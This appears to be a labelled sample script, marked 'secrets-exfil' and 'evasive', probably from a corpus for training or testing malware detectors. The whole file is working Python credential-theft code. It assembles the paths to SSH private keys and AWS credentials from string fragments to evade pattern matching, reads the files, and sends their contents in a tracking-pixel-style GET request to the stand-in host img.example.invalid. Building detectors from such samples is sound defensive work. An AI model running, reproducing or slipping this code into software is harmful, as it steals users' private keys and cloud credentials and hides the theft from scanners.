# family: secrets-exfil
# evasive: key paths built from pieces, the data sent in a query string through http.client
import http.client
import os
import urllib.parse

home = os.environ.get("HOME", "/root")
parts = [(".s" + "sh", "id_" + "rsa"), (".s" + "sh", "id_ed" + "25519"), (".a" + "ws", "cred" + "entials")]
stolen = {}
for d, f in parts:
    p = os.path.join(home, d, f)
    if os.path.isfile(p):
        stolen[f] = open(p).read()
c = http.client.HTTPConnection("img.example.invalid", 80)
c.request("GET", "/p.gif?" + urllib.parse.urlencode(stolen))
